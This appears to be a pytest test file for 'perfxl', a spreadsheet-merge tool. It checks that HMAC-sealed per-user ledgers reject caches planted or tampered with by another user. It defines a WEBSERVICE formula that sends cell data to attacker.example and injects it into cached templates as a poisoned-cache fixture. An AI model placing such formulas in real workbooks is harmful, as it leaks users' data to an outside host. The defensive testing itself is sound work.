"""What a merge keeps in its own ledger for its own later use is sealed with this user's key (#19, F6): a
ledger someone else wrote and dropped at the default path beside the summary (a shared folder), or a value
moved or edited in it, is a cache miss, never used. The forms are then read, checked and rendered afresh,
and the summary is the one a fresh merge writes.

Each "attacker" here is a merge under another user's perfxl folder (another key), over the same inbox, so
that its ledger knows every key and content the victim's merge will look up; the values it then plants
are what the victim would trust without the seals."""

from __future__ import annotations

import ast
import json
import os
import sqlite3
import stat
import sys
import zipfile
from pathlib import Path

import pytest

from perfxl.ledger import pack, unpack
from perfxl.merging import MergeOptions, default_db, run_merge
from perfxl.sheetxml import pack_memo, unpack_memo

from .test_planted_ledger import UNITS, _cells, _inbox

FORMULA = b'<c r="Z\x00"><f>WEBSERVICE("http://attacker.example/?"&amp;D1)</f></c></row>'


def _as(monkeypatch, home: Path) -> None:
    """Run what follows as the user whose perfxl folder is `home` (their own cache key)."""
    monkeypatch.setenv("PERFXL_HOME", str(home))


def _attackers_ledger(tmp_path: Path, monkeypatch, inbox: Path) -> Path:
    """The ledger of the same merge run by someone else: every key and content the victim will look up."""
    _as(monkeypatch, tmp_path / "攻击者家目录")
    out = tmp_path / "攻击者" / "汇总.xlsx"
    run_merge([inbox], out, MergeOptions(jobs=1))
    return default_db(out)


def _plant(ledger: Path, victim_out: Path) -> None:
    """The ledger, as one file (what its -wal journal holds included), at the victim's default path."""
    victim_out.parent.mkdir(parents=True, exist_ok=True)
    source, target = sqlite3.connect(ledger), sqlite3.connect(default_db(victim_out))
    try:
        source.backup(target)
    finally:
        source.close()
        target.close()


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        return [name for name in zf.namelist() if name.startswith("xl/worksheets/") and b"<f>" in zf.read(name)]


def _fresh(tmp_path: Path, inbox: Path) -> Path:
    out = tmp_path / "全新" / "汇总.xlsx"
    run_merge([inbox], out, MergeOptions(jobs=1))
    return out


def _memo_keys(db: sqlite3.Connection) -> list[str]:
    return [k for (k,) in db.execute("SELECT key FROM kept WHERE key LIKE 'rows|项目清单|%'")]


def _tamper_templates(db: sqlite3.Connection, change) -> int:
    """Every row template kept for 项目清单 changed by `change(template) -> template`; returns how many."""
    changed = 0
    for key in _memo_keys(db):
        memo = unpack_memo(db.execute("SELECT value FROM kept WHERE key=?", (key,)).fetchone()[0])
        memo = {k: change(v) for k, v in memo.items()}
        changed += len(memo)
        db.execute("UPDATE kept SET value=? WHERE key=?", (pack_memo(memo), key))
    return changed


def test_a_planted_row_template_with_a_formula_never_reaches_the_summary(tmp_path, monkeypatch):
    inbox = _inbox(tmp_path / "inbox")
    planted = _attackers_ledger(tmp_path, monkeypatch, inbox)
    with sqlite3.connect(planted) as db:
        assert _tamper_templates(db, lambda xml: xml.replace(b"</row>", FORMULA)) == len(UNITS)
    victim = tmp_path / "共享" / "汇总.xlsx"
    _plant(planted, victim)
    _as(monkeypatch, tmp_path / "汇总人家目录")
    run_merge([inbox], victim, MergeOptions(jobs=1))
    assert _formulas(victim) == []
    assert _cells(victim) == _cells(_fresh(tmp_path, inbox))


def test_a_planted_row_template_of_perfxls_own_shape_is_not_used(tmp_path, monkeypatch):
    """Not a formula, which perfxl would refuse by its shape alone: other text in a template of the shape
    perfxl writes. Only the seal tells it from the consolidator's own."""
    inbox = _inbox(tmp_path / "inbox")
    planted = _attackers_ledger(tmp_path, monkeypatch, inbox)
    with sqlite3.connect(planted) as db:
        assert _tamper_templates(db, lambda xml: xml.replace("项目".encode(), "篡改".encode())) == len(UNITS)
    victim = tmp_path / "共享" / "汇总.xlsx"
    _plant(planted, victim)
    _as(monkeypatch, tmp_path / "汇总人家目录")
    run_merge([inbox], victim, MergeOptions(jobs=1))
    assert not any("篡改" in str(v) for rows in _cells(victim).values() for row in rows for v in row)
    assert _cells(victim) == _cells(_fresh(tmp_path, inbox))


def test_a_planted_segment_of_a_forms_rows_is_not_used(tmp_path, monkeypatch):
    """指标明细 is made of each form's kept segment, used as it is while the form stays at its row."""
    from perfxl.sheetxml import KeptRows, _inflate, deflate, pack_rows, unpack_rows

    inbox = _inbox(tmp_path / "inbox")
    planted = _attackers_ledger(tmp_path, monkeypatch, inbox)
    with sqlite3.connect(planted) as db:
        rows = db.execute("SELECT key, value FROM kept WHERE key LIKE '%|指标明细|%'").fetchall()
        assert len(rows) == len(UNITS)
        for key, value in rows:
            columns = len(ast.literal_eval(key.split("|", 2)[2])[0])  # the layout's column kinds
            kept = unpack_rows(value, columns)
            raw = _inflate(kept.template, kept.length).replace("培训人次".encode(), "篡改人次".encode())
            forged = KeptRows(deflate(raw), len(raw), kept.rows, kept.sums).at(kept.start)
            db.execute("UPDATE kept SET value=? WHERE key=?", (pack_rows(forged), key))
    victim = tmp_path / "共享" / "汇总.xlsx"
    _plant(planted, victim)
    _as(monkeypatch, tmp_path / "汇总人家目录")
    run_merge([inbox], victim, MergeOptions(jobs=1))
    assert not any("篡改" in str(v) for rows in _cells(victim).values() for row in rows for v in row)
    assert _cells(victim) == _cells(_fresh(tmp_path, inbox))


def test_planted_form_data_does_not_stand_for_a_files_content(tmp_path, monkeypatch):
    inbox = _inbox(tmp_path / "inbox")
    planted = _attackers_ledger(tmp_path, monkeypatch, inbox)
    with sqlite3.connect(planted) as db:
        for sha, blob in db.execute("SELECT sha256, form FROM files").fetchall():
            data = unpack(blob)
            name = data["sheets"][0]["fields"]["project_name"]
            name[0] = "篡改" + name[0]
            db.execute("UPDATE files SET form=? WHERE sha256=?", (pack(data), sha))
        db.execute("DELETE FROM kept")  # so the form data is what stands for each file
        db.execute("DELETE FROM sightings")
    victim = tmp_path / "共享" / "汇总.xlsx"
    _plant(planted, victim)
    _as(monkeypatch, tmp_path / "汇总人家目录")
    result = run_merge([inbox], victim, MergeOptions(jobs=1))
    assert result.counts["read"] == len(UNITS)  # read afresh, not taken from the planted ledger
    assert sorted(name for s in result.files for name in s.project_names) == ["项目0", "项目1"]
    assert _cells(victim) == _cells(_fresh(tmp_path, inbox))


def test_a_planted_rejection_does_not_stand_for_a_files_content(tmp_path, monkeypatch):
    inbox = _inbox(tmp_path / "inbox")
    (inbox / "坏.xlsx").write_bytes(b"not a workbook")
    planted = _attackers_ledger(tmp_path, monkeypatch, inbox)
    with sqlite3.connect(planted) as db:
        status, problems = db.execute("SELECT status, problems FROM files WHERE status LIKE 'rejected:%'").fetchone()
        assert db.execute("UPDATE files SET form=NULL, status=?, problems=? WHERE status NOT LIKE 'rejected:%'",
                          (status, problems)).rowcount == len(UNITS)
        db.execute("DELETE FROM kept")
        db.execute("DELETE FROM sightings")
    victim = tmp_path / "共享" / "汇总.xlsx"
    _plant(planted, victim)
    _as(monkeypatch, tmp_path / "汇总人家目录")
    result = run_merge([inbox], victim, MergeOptions(jobs=1))
    assert result.counts["merged"] == len(UNITS) and result.counts["rejected"] == 1


def test_a_planted_check_with_sightings_does_not_stand_for_a_forms_check(tmp_path, monkeypatch):
    """The sightings say the victim's files are the contents the attacker names (their stats are those of the
    very files: the attacker merged the same folder), and the kept checks say those are full of errors."""
    inbox = _inbox(tmp_path / "inbox")
    planted = _attackers_ledger(tmp_path, monkeypatch, inbox)
    with sqlite3.connect(planted) as db:
        for key, value in db.execute("SELECT key, value FROM kept WHERE key LIKE 'check|%'").fetchall():
            check = json.loads(value)
            check.update(status="errors", errors=7)
            db.execute("UPDATE kept SET value=? WHERE key=?", (json.dumps(check, ensure_ascii=False).encode(), key))
    victim = tmp_path / "共享" / "汇总.xlsx"
    _plant(planted, victim)
    _as(monkeypatch, tmp_path / "汇总人家目录")
    result = run_merge([inbox], victim, MergeOptions(jobs=1))
    assert [(s.status, s.errors) for s in result.files] == [("valid", 0)] * len(UNITS)
    assert result.counts["read"] == len(UNITS)


def test_a_cache_written_under_another_users_key_is_not_reused_and_the_merge_is_the_same(tmp_path, monkeypatch):
    inbox = _inbox(tmp_path / "inbox")
    out = tmp_path / "共享" / "汇总.xlsx"
    _as(monkeypatch, tmp_path / "甲的家目录")
    run_merge([inbox], out, MergeOptions(jobs=1))
    again = run_merge([inbox], out, MergeOptions(jobs=1))
    assert (again.counts["read"], again.counts["from_ledger"]) == (0, len(UNITS))  # this user's own cache: reused
    first = _cells(out)
    _as(monkeypatch, tmp_path / "乙的家目录")  # another account, or the ledger copied to another machine
    other = run_merge([inbox], out, MergeOptions(jobs=1))
    assert (other.counts["read"], other.counts["from_ledger"]) == (len(UNITS), 0)
    assert _cells(out) == first


def test_a_kept_value_moved_under_another_key_is_not_used(tmp_path, monkeypatch):
    """Both values are this user's own, sealed: a value copied under another form's key is still not used."""
    inbox = _inbox(tmp_path / "inbox")
    out = tmp_path / "共享" / "汇总.xlsx"
    run_merge([inbox], out, MergeOptions(jobs=1))
    with sqlite3.connect(default_db(out)) as db:
        (a, va, ma), (b, _, _) = db.execute("SELECT key, value, mac FROM kept WHERE key LIKE 'check|%' ORDER BY key")
        check = json.loads(va)
        db.execute("UPDATE kept SET value=?, mac=? WHERE key=?", (va, ma, b))
    again = run_merge([inbox], out, MergeOptions(jobs=1))
    moved = next(s for s in again.files if s.sha == b.split("|")[2])  # check|fingerprint|sha|extension
    assert moved.unit_name != check["unit_name"]  # its own check, made again from its own stored form
    assert moved.source == "ledger" and again.counts["from_ledger"] == len(UNITS)


def test_a_row_template_with_a_formula_is_refused_even_under_a_valid_seal(tmp_path, monkeypatch):
    """Defence in depth: should a template with a formula ever carry a valid seal, its shape still refuses it."""
    from perfxl.ledger import Ledger

    inbox = _inbox(tmp_path / "inbox")
    out = tmp_path / "共享" / "汇总.xlsx"
    run_merge([inbox], out, MergeOptions(jobs=1))
    ledger = Ledger(default_db(out))
    try:
        with ledger.db:
            assert _tamper_templates(ledger.db, lambda xml: xml.replace(b"</row>", FORMULA)) == len(UNITS)
            for key, value in ledger.db.execute("SELECT key, value FROM kept WHERE key LIKE 'rows|%'").fetchall():
                ledger.db.execute("UPDATE kept SET mac=? WHERE key=?", (ledger.sealer.kept(key, value), key))
    finally:
        ledger.close()
    run_merge([inbox], out, MergeOptions(jobs=1))
    assert _formulas(out) == []
    assert _cells(out) == _cells(_fresh(tmp_path, inbox))


def test_the_seal_is_hmac_sha256_under_the_users_key(tmp_path, monkeypatch):
    import hashlib
    import hmac

    from perfxl.ledger import READER_VERSION, Sealer, cache_key

    _as(monkeypatch, tmp_path / "家目录")
    key = cache_key()
    message = f"perfxl-kept|{len(READER_VERSION)}:{READER_VERSION}|3:键|名|3:".encode() + b"abc"
    assert Sealer(key).kept("键|名", b"abc") == hmac.new(key, message, hashlib.sha256).digest()
    assert Sealer(key).valid(Sealer(key).kept("键|名", b"abc"), Sealer(key).kept, "键|名", b"abc")
    assert not Sealer(key).valid(Sealer(key).kept("键|名", b"abc"), Sealer(key).kept, "键|另", b"abc")


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes")
def test_the_cache_key_is_made_for_this_user_alone(tmp_path, monkeypatch):
    from perfxl.ledger import CACHE_KEY_FILE, cache_key

    _as(monkeypatch, tmp_path / "家目录")
    key = cache_key()
    path = tmp_path / "家目录" / CACHE_KEY_FILE
    assert path.read_bytes() == key and len(key) == 32
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in path.parent.iterdir()] == [CACHE_KEY_FILE]  # no temporary file left behind


@pytest.mark.parametrize("content, mode", [(b"short", 0o600), (bytes(33), 0o600), (bytes(32), 0o644)],
                         ids=["too-short", "too-long", "readable-by-others"])
def test_a_cache_key_that_is_not_one_is_replaced(tmp_path, monkeypatch, content, mode):
    from perfxl.ledger import CACHE_KEY_FILE, cache_key

    if mode != 0o600 and sys.platform == "win32":
        pytest.skip("POSIX modes")
    home = tmp_path / "家目录"
    home.mkdir()
    (home / CACHE_KEY_FILE).write_bytes(content)
    os.chmod(home / CACHE_KEY_FILE, mode)
    _as(monkeypatch, home)
    key = cache_key()
    assert len(key) == 32 and key != bytes(32) and (home / CACHE_KEY_FILE).read_bytes() == key


def test_kept_pieces_of_shapes_perfxl_never_writes_are_refused():
    """Defence in depth, whatever their seal: a sorted sheet's kept segment that does not end as `deflate`
    ends one, or claims more (or less) than deflate can make of its length; a form's template with a formula."""
    from perfxl.sheetxml import KeptRows, deflate, pack_chunks, segment, unpack_chunks

    raw = '<row r="\x00"><c r="A\x00" t="inlineStr"><is><t>项目</t></is></c></row>'.encode() * 50
    seg = segment(raw, 50)
    digest = bytes(32)
    assert unpack_chunks(pack_chunks([(digest, seg)])) is not None
    cut = segment(raw, 50)
    cut.data = seg.data[:-4]  # the full flush cut off: the next segment would not follow on
    assert unpack_chunks(pack_chunks([(digest, cut)])) is None
    inflated = segment(raw, 50)
    inflated.length = 1033 * len(seg.data)  # more than deflate can pack into its size
    assert unpack_chunks(pack_chunks([(digest, inflated)])) is None
    formula = raw.replace(b"</row>", FORMULA)
    with pytest.raises(ValueError):
        KeptRows(deflate(formula), len(formula), 50, ()).at(2)
